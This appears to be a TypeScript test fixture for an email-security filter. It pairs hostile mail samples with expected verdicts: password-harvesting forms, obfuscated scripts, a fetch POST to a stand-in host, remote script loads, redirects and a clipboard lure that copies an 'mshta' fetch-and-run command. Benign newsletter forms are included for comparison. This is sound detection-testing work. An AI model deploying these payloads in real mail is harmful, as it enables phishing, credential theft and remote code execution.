import { held, inbox, junk, type HostileMail } from '../hostile-mail.ts';
import {
  attachment,
  htmlType,
  multipart,
  multipartType,
  part,
  receivedFrom,
  writeMail,
} from '../write-mail.ts';

const html = (body: string): Buffer => writeMail([htmlType], body);
const withPage = (page: string | Buffer, name = 'invoice.html'): Buffer =>
  writeMail([multipartType()], multipart(['\r\nsee the page', attachment(name, page)]));
/** From a domain that the attacker has registered, authenticated. */
const proved = [
  'Authentication-Results: mx.acme.example; dkim=pass header.d=sender.example; spf=pass smtp.mailfrom=sender.example; dmarc=pass header.from=sender.example',
  receivedFrom('out.sender.example', '203.0.113.9'),
] as const;
const provedPage = (page: string): Buffer =>
  writeMail(
    [...proved, multipartType()],
    multipart(['\r\nYou have an encrypted message.', attachment('message.html', page)]),
  );
const asks = { verdicts: ['cp_phishing'], states: held, evidence: ['body_login'] } as const;
const login = { verdicts: ['cp_phishing'], states: held, evidence: ['page_login'] } as const;
const scripted = { verdicts: ['cp_av_suspicious'], states: held, evidence: ['page_script'] } as const;
const loads = { verdicts: ['cp_av_suspicious'], states: held, evidence: ['page_loads'] } as const;
const posts = { verdicts: ['cp_ap_suspicious'], states: junk, evidence: ['page_form'] } as const;
const clean = { verdicts: ['cp_clean'], states: inbox, evidence: [] } as const;

/** Forms in mails and attached pages, and active pages; with those of newsletters and reports for comparison. */
export const formMails: readonly HostileMail[] = [
  {
    name: 'a form for a password in the mail itself',
    mail: html('<form action="https://x.example/in"><input name=u><input type=password name=p></form>'),
    is: { ...asks, links: ['https://x.example/in'] },
  },
  ...[
    '<input type="&#112;assword">',
    '<INPUT\nTYPE=PassWord>',
    '<input type=text name=userPassword>',
    '<input name="pwd">',
    '<input name=a placeholder="Ihr Kennwort">',
    '<input name=a autocomplete="current-password">',
    '<input name=cardNumber><input name=cvv>',
    '<style>.a{-webkit-text-security:disc}</style><input name=a class=a>',
    '<title><!--</title><input type=password><!-- x -->',
  ].map((fields) => ({
    name: `a form in the mail itself: ${fields}`,
    mail: html(`<form action="https://x.example/in">${fields}</form>`),
    is: asks,
  })),
  {
    name: 'a form for a password in a page for programs that run it',
    mail: writeMail(
      [multipartType('edge', 'alternative')],
      multipart([
        '\r\nhello',
        part(
          ['Content-Type: text/x-amp-html'],
          '<form action-xhr="https://x.example"><input type=password></form>',
        ),
        part([htmlType], '<p>hello</p>'),
      ]),
    ),
    is: asks,
  },
  ...[
    '<form action="https://shop.example/search"><input type="text" name="q"><input type="submit"></form>',
    '<form method="post" action="https://shop.example/survey"><input type=radio name=a><textarea name=comment></textarea><input type=hidden name=token><input type=hidden name=password_hint></form>',
    '<form method="post" action="https://list.example/subscribe"><input type="email" name="EMAIL"></form>',
    '<p>Forgot your password? <a href="https://shop.example/reset">Set a new one</a></p>',
    '<form><input name="compass"><input name="passenger" placeholder="Passenger"></form>',
    '<style>input{-webkit-text-security: none}</style><input name=q>',
  ].map((body) => ({ name: `what newsletters have: ${body}`, mail: html(body), is: clean })),
  {
    name: 'a survey in a page for programs that run it',
    mail: writeMail(
      [multipartType('edge', 'alternative')],
      multipart([
        '\r\nhello',
        part(
          ['Content-Type: text/x-amp-html'],
          '<form method="post" action-xhr="https://shop.example/s"><input type="radio" name="r"><input type="email" name="mail"></form>',
        ),
        part([htmlType], '<p>hello</p>'),
      ]),
    ),
    is: clean,
  },
  ...[
    '<form action="https://x.example"><input type="&#112;assword"></form>',
    '<iframe srcdoc="<form action=https://x.example><input type=password></form>"></iframe>',
    `<iframe srcdoc="<iframe srcdoc='&amp;lt;input type=password&amp;gt;'></iframe>"></iframe>`,
    '<input name=mail><input name=password style="-webkit-text-security:disc">',
    '<form method=post action="https://x.example"><input name=email value="ann@acme.example"><input name=pass></form>',
  ].map((page) => ({ name: `a page that asks for a password: ${page}`, mail: withPage(page), is: login })),
  {
    name: 'a proved mail whose page asks for a password that it posts to its sender: whoever registers a domain proves it and is its host',
    mail: provedPage(
      '<form method="post" action="https://portal.sender.example/open"><input type="password"></form>',
    ),
    is: { ...login, spf: 'pass' },
  },
  {
    name: 'a proved mail that asks for a password that it posts to its sender',
    mail: writeMail(
      [...proved, htmlType],
      '<form method="post" action="https://portal.sender.example/in"><input type="password"></form>',
    ),
    is: { ...asks, spf: 'pass' },
  },
  {
    name: 'an encrypted message behind a button of a page: the portal asks who reads it on a page of its own',
    mail: provedPage(
      '<p>You have an encrypted message.</p><form method="post" action="https://portal.sender.example/open"><input type="hidden" name="message" value="AAAA"><input type="submit" value="Read the message"></form>',
    ),
    is: { ...clean, spf: 'pass' },
  },
  {
    name: 'a page in UTF-16 that asks for a password as a file',
    mail: withPage(Buffer.from('\ufeff<form><input type="password"></form>', 'utf16le')),
    is: login,
  },
  {
    name: 'an attached message whose text asks for a password',
    mail: writeMail(
      [multipartType()],
      multipart([
        '\r\nhello',
        part(
          ['Content-Type: message/rfc822', 'Content-Disposition: attachment'],
          `Subject: x\r\n${htmlType}\r\n\r\n<form><input type=password></form>`,
        ),
      ]),
    ),
    is: asks,
  },
  {
    name: 'an attached message whose text has a script, which mail programs do not run',
    mail: writeMail(
      [multipartType()],
      multipart([
        '\r\nhello',
        part(
          ['Content-Type: message/rfc822', 'Content-Disposition: attachment'],
          `Subject: x\r\n${htmlType}\r\n\r\n<script src="//x.example/a.js"></script><script>document.write(1)</script>`,
        ),
      ]),
    ),
    is: clean,
  },
  {
    name: 'a page after the text that has no name',
    mail: writeMail(
      [multipartType()],
      multipart(['\r\nhello', part([htmlType], '<script>eval(x)</script>')]),
    ),
    is: scripted,
  },
  {
    name: 'a footer after the text',
    mail: writeMail(
      [multipartType()],
      multipart(['\r\nhello', part([htmlType], '<p>Checked for viruses.</p>')]),
    ),
    is: clean,
  },
  ...[
    '<script>[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][([][(![]+[])[+[]]]+[])[3]+(!![]+[][(![]+[])[+[]]+(![]+[])])()</script>',
    `<body onload="this['ev'+'al'](name)">`,
    '<body onload="&#101;val(name)">',
    '<script>\\u0065val(name)</script>',
    '<script>var _0x1a2b=["a"],_0x33ff=_0x1a2b[0];_0x33ff()</script>',
    '<script>new Function(name)()</script>',
    "<script>fetch('https://x.example',{method:'POST',body:1})</script>",
    "<script>s.src='https://x.example/a.js'</script>",
    "<meta content='0; url=https://x.example' http-equiv='refresh'>",
    '<meta http-equiv="&#114;efresh" content="0;url=https://x.example">',
    '<meta http-equiv=refresh content="1;https://x.example">',
    '<meta http-equiv=refresh content="0, \'https://x.example\'">',
    '<iframe srcdoc="<script>eval(name)</script>"></iframe>',
    '<iframe src="data:text/plain;base64,PGZvcm0+"></iframe>',
    '<button onclick="navigator.clipboard.writeText(\'mshta https://x.example\')">I am no robot</button>',
  ].map((page) => ({
    name: `a page that runs something: ${page}`,
    mail: withPage(page),
    is: scripted,
  })),
  ...[
    '<script src="https://x.example/a.js"></script>',
    '<script src=//x.example/a.js></script>',
    '<base href="https://x.example/"><script src="a.js"></script>',
    '<iframe src="https://x.example/sign-in"></iframe>',
    '<object data="https://x.example/sign-in"></object>',
    '<style>/*<!--*/</style><script src="https://x.example/a.js"></script><!-- x -->',
  ].map((page) => ({ name: `a page that loads another: ${page}`, mail: withPage(page), is: loads })),
  {
    name: 'a page that sends what is typed to somebody else',
    mail: withPage('<form method="POST" action="https://x.example/in"><input name="mail"></form>'),
    is: posts,
  },
  {
    name: 'a page whose button sends what is typed to somebody else',
    mail: withPage(
      '<form><textarea></textarea><button formmethod=post formaction="//x.example">Go</button></form>',
    ),
    is: posts,
  },
  ...[
    '<table><tr><td>1</td></tr></table><a href="https://far.example">more</a>',
    '<button onclick="toggle(1)">Details</button><script>function toggle(id){document.getElementById(id).style.display="none"}</script>',
    '<script src="https://code.jquery.com/jquery.min.js"></script><script>$("#a").hide()</script>',
    '<form action="https://far.example/search"><input name="q"></form>',
    '<form method="post" action="https://far.example/vote"><input type="radio"><input type="submit"></form>',
    '<button onclick="navigator.clipboard.writeText(text)">Copy</button>',
  ].map((page) => ({ name: `a report: ${page}`, mail: withPage(page, 'report.html'), is: clean })),
  ...[
    '<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>y()</x:script></svg>',
    '<svg><a href="java&#115;cript:y()"><text>Open</text></a></svg>',
  ].map((page) => ({
    name: `a drawing with code: ${page}`,
    mail: withPage(page, 'chart.svg'),
    is: scripted,
  })),
];
